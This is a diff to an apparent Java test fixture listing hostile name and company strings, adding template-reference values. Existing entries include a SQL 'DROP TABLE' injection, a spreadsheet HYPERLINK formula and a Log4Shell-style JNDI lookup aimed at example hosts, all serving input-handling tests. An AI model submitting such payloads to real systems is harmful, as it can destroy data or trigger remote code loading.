@@ -18,7 +18,8 @@ final class Hostile {
                     new Name("Robert'); DROP TABLE Contact;--", "' OR Name LIKE '%"),
                     new Name("=HYPERLINK(\"http://example.example\")", "${jndi:ldap://x.example}"),
                     new Name("null", "undefined"),
-                    new Name("True", "0"));
+                    new Name("True", "0"),
+                    new Name("@{r0.id}", "@{r1.Name}"));
 
     static final List<String> COMPANIES =
             List.of("<b>Bold</b> & \"Brave\" Ltd", "O'Reilly's; Sons", "日本語株式会社 🏯");
